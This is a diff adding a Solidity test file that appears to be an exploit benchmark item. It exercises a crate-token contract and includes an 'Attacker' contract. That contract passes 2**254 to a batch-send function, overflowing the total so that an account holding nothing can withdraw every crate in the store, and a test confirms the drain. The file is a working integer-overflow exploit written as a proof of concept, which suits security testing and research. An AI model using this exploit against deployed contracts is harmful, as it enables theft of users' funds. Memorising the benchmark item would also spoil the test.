@@ -1,0 +1,102 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.4.26;
+
+import "./SeedlingCrateStock.sol";
+
+// assay-canary-d03d44d6-5b7a-4642-9d87-b5257b642297
+
+interface Vm {
+    function deal(address who, uint256 amount) external;
+    function prank(address who) external;
+}
+
+contract Proof {
+    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
+
+    SeedlingCrateStock internal stock;
+    Attacker internal gleaner;
+    address internal constant JUNE = address(0x501E);
+    address internal constant KARL = address(0xCA51);
+
+    function setUp() public {
+        stock = new SeedlingCrateStock(1000, 1 finney);
+        stock.dispatch(JUNE, 400);
+        stock.dispatch(KARL, 100);
+        vm.deal(JUNE, 1 ether);
+        vm.deal(KARL, 1 ether);
+        gleaner = new Attacker(stock);
+        vm.deal(gleaner, 1 ether);
+    }
+
+    function test_Regular() public {
+        address[] memory list = new address[](3);
+        list[0] = KARL;
+        list[1] = address(0x1001);
+        list[2] = address(0x1002);
+        vm.prank(JUNE);
+        stock.sendEach(list, 50);
+        require(stock.crates(JUNE) == 250 && stock.crates(KARL) == 150 && stock.crates(0x1002) == 50, "sent to each");
+        vm.prank(JUNE);
+        require(!address(stock).call(abi.encodeWithSelector(stock.sendEach.selector, list, 84)), "more than there is");
+
+        vm.prank(JUNE);
+        stock.lend(KARL, 20);
+        vm.prank(KARL);
+        stock.sendFrom(JUNE, KARL, 15);
+        require(stock.lent(JUNE, KARL) == 5 && stock.crates(KARL) == 165, "carried");
+
+        vm.prank(KARL);
+        stock.fetch.value(165 finney)(165);
+        require(stock.inStore() == 835 && stock.crates(KARL) == 0, "fetched");
+        stock.bar(JUNE, true);
+        vm.prank(JUNE);
+        require(!address(stock).call(abi.encodeWithSelector(stock.dispatch.selector, KARL, 1)), "barred");
+        stock.bring(65);
+        require(stock.inStore() == 900 && stock.crates(this) == 565, "brought in");
+        require(booksAgree(), "books");
+    }
+
+    // Nobody is booked with more crates than the whole store has.
+    function booksAgree() public view returns (bool) {
+        uint all = stock.inStore();
+        return stock.crates(gleaner) <= all && stock.crates(this) <= all && stock.crates(JUNE) <= all;
+    }
+
+    function exploit() public {
+        gleaner.run();
+    }
+
+    function test_Exploit() public {
+        exploit();
+        require(!booksAgree(), "books agree");
+        require(stock.inStore() == 0, "the store still has crates");
+    }
+
+    function target() public view returns (address) {
+        return address(stock);
+    }
+
+    function attacker() public view returns (address) {
+        return address(gleaner);
+    }
+}
+
+// Owns no crate and fetches all of them.
+contract Attacker {
+    SeedlingCrateStock internal stock;
+
+    constructor(SeedlingCrateStock _stock) public {
+        stock = _stock;
+    }
+
+    function run() external {
+        address[] memory list = new address[](4);
+        list[0] = this;
+        list[1] = address(0x2001);
+        list[2] = address(0x2002);
+        list[3] = address(0x2003);
+        stock.sendEach(list, 2 ** 254);
+        uint all = stock.inStore();
+        stock.fetch.value(all * stock.handlingFee())(all);
+    }
+}
